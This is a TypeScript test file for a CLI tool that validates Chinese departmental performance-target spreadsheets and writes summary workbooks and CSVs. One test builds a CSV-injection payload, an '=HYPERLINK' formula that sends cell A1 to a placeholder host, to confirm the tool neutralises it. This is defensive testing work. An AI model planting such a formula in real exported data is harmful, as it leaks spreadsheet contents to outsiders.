/**
 * jixiao validate on a reviewer's folder: every submission checked in path order (lock files and
 * hidden files skipped), one bad file never stopping the others, the exit code of the contract, and
 * the summary workbook and CSV a reviewer hands on, read back with ExcelJS and checked row by row.
 */
import ExcelJS from "exceljs";
import fs from "fs";
import path from "path";
import { Report } from "../../src/core/report";
import { csvField } from "../../src/cli/summary/csv";
import { clean } from "../../src/cli/summary/xlsx";
import { referenceWithDepartment, SUBMISSIONS, writeBatchFolder } from "./batch-folder";
import { runCli, tempDir } from "./run-cli";

const STACK = /\bat .+:\d+:\d+\)?$|Error:|TypeError/m;
const SEVERITY = { error: "错误", warning: "警告", info: "提示" } as const;

let root: string;
let folder: string;
/** Every report of the folder, by path below it, from --format json (the reference to compare with). */
const reports = new Map<string, Report>();

beforeAll(async () => {
  ({ root, folder } = await writeBatchFolder());
  for (const rel of SUBMISSIONS) {
    const r = await runCli(["validate", path.join(folder, rel), "--format", "json"]);
    if (r.stdout) reports.set(rel, JSON.parse(r.stdout) as Report);
  }
  // What the rows below are compared with: the .xls reads as the .xlsx, the corrupt file not at all.
  expect([...reports.keys()]).toEqual(SUBMISSIONS.filter((f) => f !== "corrupt.xlsx"));
});

const shown = (rel: string) => path.join("submissions", rel);

async function readWorkbook(file: string): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  return wb;
}

/** A sheet's rows as plain values, hyperlinks as their text, without the header. */
function values(ws: ExcelJS.Worksheet): unknown[][] {
  const rows: unknown[][] = [];
  ws.eachRow({ includeEmpty: false }, (row, n) => {
    if (n === 1) return;
    const cells: unknown[] = [];
    for (let c = 1; c <= ws.columnCount; c++) {
      const v = row.getCell(c).value;
      cells.push(v && typeof v === "object" && "hyperlink" in v ? v.text : (v ?? null));
    }
    rows.push(cells);
  });
  return rows;
}

/** The issue list a summary must hold: the corrupt file's reason, then each report's issues. */
function expectedIssueRows(): unknown[][] {
  const rows: unknown[][] = [];
  for (const rel of SUBMISSIONS) {
    const report = reports.get(rel);
    if (!report) {
      rows.push([
        shown(rel),
        null,
        null,
        "无法读取",
        null,
        expect.stringMatching(/损坏/),
        expect.stringMatching(/damaged/),
        null,
      ]);
      continue;
    }
    for (const i of report.issues)
      rows.push([
        shown(rel),
        report.record?.department.value || null,
        i.cell,
        SEVERITY[i.severity],
        i.rule,
        i.message,
        i.messageEn,
        i.fix ? String(i.fix.value) : null,
      ]);
  }
  return rows;
}

describe("jixiao validate DIR --summary OUT.xlsx", () => {
  let run: { code: number; stdout: string; stderr: string };
  let out: string;
  let wb: ExcelJS.Workbook;

  beforeAll(async () => {
    out = path.join(root, "审核", "汇总 2019.xlsx");
    fs.mkdirSync(path.dirname(out));
    run = await runCli(["validate", "submissions", "--summary", path.join("审核", "汇总 2019.xlsx")], root);
    wb = await readWorkbook(out);
  });

  it("checks every submission after the corrupt one and exits 2, with one line for that file", () => {
    expect(run.code).toBe(2);
    expect(run.stderr.trim().split("\n")).toEqual([
      expect.stringMatching(/^submissions\/corrupt\.xlsx: .*损坏.* \/ .*damaged/),
    ]);
    expect(run.stderr).not.toMatch(STACK);
    const headers = run.stdout.split("\n").filter((l) => l.startsWith("submissions/"));
    expect(headers.map((l) => l.split("  ")[0])).toEqual(SUBMISSIONS.slice(1).map(shown));
    expect(run.stdout).toContain("共 5 个文件：2 个可以提交，2 个需修改，1 个无法读取");
    expect(run.stdout).toContain("汇总已写入 审核/汇总 2019.xlsx");
  });

  it("汇总 has one row per file: sheet, department, year, 总额, counts, status and reason", () => {
    const ws = wb.getWorksheet("汇总")!;
    expect(wb.worksheets.map((w) => w.name)).toEqual(["汇总", "问题清单"]);
    expect(ws.getRow(1).values).toEqual([
      undefined,
      "文件 File",
      "工作表 Sheet",
      "部门 Department",
      "年度 Year",
      "总额（万元）Total",
      "错误 Errors",
      "警告 Warnings",
      "提示 Infos",
      "状态 Status",
      "原因 Reason",
    ]);
    const ref = ["Sheet1", "广州市天河区司法局", 2019, 5922.53, 0, 2, 6, "可以提交", null];
    expect(values(ws)).toEqual([
      [
        shown("corrupt.xlsx"),
        null,
        null,
        null,
        null,
        null,
        null,
        null,
        "无法读取",
        expect.stringMatching(/损坏.* \/ .*damaged/),
      ],
      // The legacy .xls is checked like the .xlsx it was saved from.
      [shown("legacy.xls"), ...ref],
      [
        shown("no-table.xlsx"),
        null,
        null,
        null,
        null,
        1,
        0,
        0,
        "需修改",
        expect.stringMatching(/^A1 工作簿中没有找到部门整体绩效目标表/),
      ],
      [shown("tianhe-2019.xlsx"), ...ref],
      [
        shown("二处/defects 副本#1.xlsx"),
        "Sheet1",
        "广州市天河区司法局",
        2019,
        5900,
        3,
        3,
        9,
        "需修改",
        expect.stringMatching(/^E4 总额 5,900\.00 不等于各项收入之和.*（另有 2 个错误 \/ 2 more）$/),
      ],
    ]);
  });

  it("问题清单 has one row per issue, as the JSON reports give them", () => {
    const rows = values(wb.getWorksheet("问题清单")!);
    expect(rows).toEqual(expectedIssueRows());
    // corrupt, defects copy (3 errors, 3 warnings, 9 infos), legacy .xls and reference (2 warnings, 6 infos each), no table.
    expect(rows).toHaveLength(1 + 15 + 8 + 1 + 8);
  });

  it("each sheet has a bold header, frozen panes, an autofilter over its rows and fitted widths", () => {
    for (const [name, columns, rows] of [
      ["汇总", "J", 6],
      ["问题清单", "H", 34],
    ] as const) {
      const ws = wb.getWorksheet(name)!;
      expect(ws.views[0]).toMatchObject({ state: "frozen", xSplit: 1, ySplit: 1 });
      expect(ws.autoFilter).toBe(`A1:${columns}${rows}`);
      expect(ws.getRow(1).font?.bold).toBe(true);
      expect(ws.rowCount).toBe(rows);
      for (const col of ws.columns) {
        expect(col.width).toBeGreaterThanOrEqual(8);
        expect(col.width).toBeLessThanOrEqual(60);
      }
    }
    // The file column fits its longest name; long messages wrap in a capped column.
    const issues = wb.getWorksheet("问题清单")!;
    expect(issues.getColumn(1).width).toBeGreaterThanOrEqual("submissions/二处/defects 副本#1.xlsx".length);
    expect(issues.getColumn(6).width).toBe(60);
    expect(issues.getColumn(6).alignment?.wrapText).toBe(true);
    expect(wb.getWorksheet("汇总")!.getColumn(5).numFmt).toBe("#,##0.00");
  });

  it("every file name is a hyperlink to its file, relative to the summary's folder", () => {
    for (const name of ["汇总", "问题清单"]) {
      const ws = wb.getWorksheet(name)!;
      ws.eachRow((row, n) => {
        if (n === 1) return;
        const v = row.getCell(1).value as ExcelJS.CellHyperlinkValue;
        expect(v.hyperlink.startsWith("../submissions/")).toBe(true);
        const target = path.resolve(path.dirname(out), decodeURIComponent(v.hyperlink));
        expect(target).toBe(path.join(root, v.text));
        expect(fs.existsSync(target)).toBe(true);
      });
    }
    const link = (wb.getWorksheet("汇总")!.getCell("A6").value as ExcelJS.CellHyperlinkValue).hyperlink;
    expect(link).toBe("../submissions/二处/defects%20副本%231.xlsx");
  });

  it("a summary written into the folder is not checked itself on the next run", async () => {
    const again = await runCli(["validate", "submissions", "--summary", "submissions/汇总.xlsx"], root);
    const twice = await runCli(["validate", "submissions", "--summary", "submissions/汇总.xlsx"], root);
    expect(twice.stdout).toBe(again.stdout);
    expect(twice.stdout).not.toMatch(/^submissions\/汇总\.xlsx/m);
    expect(twice.stdout).toContain("共 5 个文件");
    fs.rmSync(path.join(folder, "汇总.xlsx"));
  });
});

describe("jixiao validate … --summary OUT.csv", () => {
  /** RFC 4180 fields of a CSV text (quoted fields may hold commas, quotes and line breaks). */
  function parseCsv(text: string): string[][] {
    const rows: string[][] = [];
    let row: string[] = [];
    let field = "";
    let quoted = false;
    for (let i = 0; i < text.length; i++) {
      const ch = text[i];
      if (quoted) {
        if (ch === '"' && text[i + 1] === '"') ((field += '"'), i++);
        else if (ch === '"') quoted = false;
        else field += ch;
      } else if (ch === '"') quoted = true;
      else if (ch === ",") (row.push(field), (field = ""));
      else if (ch === "\r" && text[i + 1] === "\n") {
        (row.push(field), rows.push(row), (row = []), (field = ""), i++);
      } else field += ch;
    }
    return rows;
  }

  it("is the issue list in UTF-8 with a BOM, CRLF and RFC 4180 quoting", async () => {
    const r = await runCli(["validate", "submissions", "--summary", "issues.csv"], root);
    expect(r.code).toBe(2);
    const bytes = fs.readFileSync(path.join(root, "issues.csv"));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString("utf8").slice(1);
    expect(text.endsWith("\r\n")).toBe(true);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([
      "文件 File",
      "部门 Department",
      "单元格 Cell",
      "严重程度 Severity",
      "规则 Rule",
      "问题 Message (zh)",
      "Message (en)",
      "建议修改 Suggested fix",
    ]);
    const want = expectedIssueRows().map((row) => row.map((v) => (v === null ? "" : v)));
    expect(rows).toEqual(want);
    // English messages hold commas and quotes: they are quoted, quotes doubled.
    expect(text).toContain(
      '"The indicator ""公共法律服务工作站服务指引标识、设备配置数量"" has no performance standard"',
    );
  });

  it("neutralises texts from a submission that Excel would run as a formula", async () => {
    const dir = tempDir();
    const evil = '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")';
    fs.writeFileSync(path.join(dir, "evil.xlsx"), referenceWithDepartment(evil));
    fs.writeFileSync(path.join(dir, "plus.xlsx"), referenceWithDepartment("+86 司法局, 天河"));
    const r = await runCli(["validate", dir, "--summary", path.join(dir, "out.csv")]);
    expect(r.code).toBe(0);
    const rows = parseCsv(fs.readFileSync(path.join(dir, "out.csv"), "utf8").slice(1));
    const departments = new Set(rows.slice(1).map((row) => row[1]));
    expect(departments).toEqual(new Set(["'" + evil, "'+86 司法局, 天河"]));
    for (const row of rows) for (const f of row) expect(f).not.toMatch(/^[=+\-@\t\r]/);
    // The workbook summary keeps the department as typed: a value, never a formula.
    await runCli(["validate", dir, "--summary", path.join(dir, "out.xlsx")]);
    const ws = (await readWorkbook(path.join(dir, "out.xlsx"))).getWorksheet("汇总")!;
    expect(ws.getCell("C2").value).toBe(evil);
  });

  it("csvField quotes and neutralises exactly where it must", () => {
    expect(csvField("plain 文本")).toBe("plain 文本");
    expect(csvField('a,"b"')).toBe('"a,""b"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("=1+1")).toBe("'=1+1");
    expect(csvField("-5")).toBe("'-5");
    expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvField("=a,b")).toBe(`"'=a,b"`);
    expect(csvField(-5)).toBe("-5");
    expect(csvField(null)).toBe("");
    expect(csvField("≥90%")).toBe("≥90%");
  });

  it("a cell text with characters XML cannot hold still gives a workbook that opens", () => {
    expect(clean("a\u0001b\u000bc\ud800d")).toBe("a\ufffdb\ufffdc\ufffdd");
    expect(clean("tab\tand\nline 😀")).toBe("tab\tand\nline 😀");
    expect((clean("长".repeat(40000)) as string).length).toBe(32767);
  });
});

describe("the summary's own errors", () => {
  it("a summary that cannot be written: exit 2 with a clear line, the reports printed", async () => {
    const r = await runCli(
      ["validate", "submissions/tianhe-2019.xlsx", "--summary", "no/such/dir/s.xlsx"],
      root,
    );
    expect(r.code).toBe(2);
    expect(r.stdout).toContain("可以提交");
    expect(r.stderr).toMatch(/^no\/such\/dir\/s\.xlsx: 无法写入汇总文件.* \/ The summary cannot be written/);
  });

  it("--summary must name an .xlsx or .csv", async () => {
    const r = await runCli(["validate", "submissions", "--summary", "out.pdf"], root);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--summary .*\.xlsx 或 \.csv.* \/ --summary must name an \.xlsx or \.csv file/);
  });
});
